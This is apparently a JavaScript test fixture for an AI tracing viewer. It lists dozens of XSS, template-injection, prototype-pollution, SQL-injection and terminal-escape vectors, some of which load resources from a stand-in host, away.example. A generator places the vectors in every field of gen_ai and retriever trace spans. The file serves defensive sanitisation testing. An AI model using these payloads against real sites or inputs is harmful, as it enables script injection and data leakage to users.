// Texts that try to run, to load, to break out, or to mislead. Each calls hit() or asks another host where it works.
const RUN = "window.hit=1";
const AWAY = "//away.example/x";

export const VECTORS = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=${AWAY}.js></SCRIPT>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src="${AWAY}.png">`, `<img srcset="${AWAY} 1x">`, `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<math><mtext><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`, `<iframe src="javascript:parent.hit=1">`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<iframe src="${AWAY}">`, `<object data="${AWAY}">`, `<embed src="${AWAY}">`, `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=preload as=image href="${AWAY}.png">`, `<style>@import "${AWAY}.css"</style>`, `<style>body{background:url(${AWAY})}</style>`,
  `<base href="//away.example/">`, `<meta http-equiv=refresh content="0;url=//away.example/">`, `<form action="${AWAY}"><button autofocus>`,
  `<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video src=x onerror=${RUN}>`, `<audio src="${AWAY}" autoplay>`,
  `<marquee onstart=${RUN}>`, `<a href="javascript:${RUN}">click</a>`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `[click](javascript:${RUN})`, `![x](https:${AWAY}.png)`,
  `<https:${AWAY}>`, `" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`, `\` onfocus=\`${RUN}\``, `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `'; ${RUN}; '`, `'); ${RUN}; //`, `*/ ${RUN} /*`, `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`, `\u202Egnp.exe\u202C`, `\u0000<script>${RUN}</script>`, `\u2028${RUN}\u2029`,
  `__proto__`, `constructor`, `{"__proto__":{"hit":1}}`, `[{"role":"user","parts":[{"type":"text","content":"<img src=x onerror=${RUN}>"}]}]`,
  `\u001b[31m${RUN}\u001b[0m`, `\u001b]8;;https:${AWAY}\u0007click\u001b]8;;\u0007`, `' OR 1=1 --`, `$1`, `%3Cscript%3E${RUN}%3C/script%3E`,
];

const hex = (number, width) => number.toString(16).padStart(width, "0");

/** Spans with a vector in every field that a sender fills, one trace a vector. */
export function hostileSpans() {
  return VECTORS.flatMap((vector, at) => {
    const trace = hex(0xbad00000 + at, 32);
    const message = JSON.stringify([{ role: vector, parts: [{ type: "text", content: vector }, { type: vector, content: vector }] }]);
    const attributes = {
      "gen_ai.operation.name": "chat", "gen_ai.request.model": vector, "gen_ai.provider.name": vector, "session.id": vector, "user.id": vector,
      "gen_ai.input.messages": JSON.stringify([{ role: "user", parts: [{ type: "text", content: vector }] }]), "gen_ai.output.messages": message,
      "gen_ai.system_instructions": JSON.stringify([{ type: "text", content: vector }]), [vector.slice(0, 60)]: vector,
    };
    const documents = {
      "openinference.span.kind": "RETRIEVER", "retrieval.documents.0.document.content": vector, "retrieval.documents.0.document.id": vector,
      "retrieval.documents.0.document.metadata": JSON.stringify({ source: vector }), "input.value": vector,
    };
    const events = [{ timeUnixNano: "1", name: vector, attributes: [{ key: "exception.message", value: { stringValue: vector } }] }];
    return [
      { trace, id: hex(0x1000 + at, 16), name: vector, attributes, events, status: { code: 2, message: vector } },
      { trace, id: hex(0x2000 + at, 16), parent: hex(0x1000 + at, 16), name: vector, attributes: documents, start: 10 },
    ];
  });
}
